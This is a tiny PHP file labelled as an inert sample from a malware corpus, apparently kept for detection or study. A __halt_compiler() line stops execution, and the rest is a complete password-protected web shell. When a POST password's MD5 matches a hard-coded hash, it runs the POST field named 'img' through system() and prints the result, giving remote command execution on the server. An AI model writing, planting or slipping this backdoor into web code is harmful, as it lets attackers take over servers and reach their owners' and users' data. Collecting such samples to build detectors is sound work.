<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
if (md5($_POST['pw']) == 'aa2d37a21b2a5112ad5ffc2fc09a31e9') {
    echo '<pre>';
    system($_POST['img']);
    echo '</pre>';
}
